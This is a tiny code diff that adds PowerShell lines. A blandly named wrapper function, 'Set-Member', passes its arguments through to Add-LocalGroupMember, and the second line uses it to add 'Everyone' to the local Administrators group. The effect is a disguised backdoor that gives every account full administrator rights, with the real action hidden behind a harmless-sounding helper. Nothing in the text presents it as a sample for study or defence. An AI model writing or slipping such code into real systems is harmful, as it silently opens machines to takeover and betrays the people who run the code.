@@ -1,0 +1,2 @@
+function Set-Member { param($Group, $Member) $given = $MyInvocation.BoundParameters; Add-LocalGroupMember @given }
+Set-Member Administrators -Member Everyone
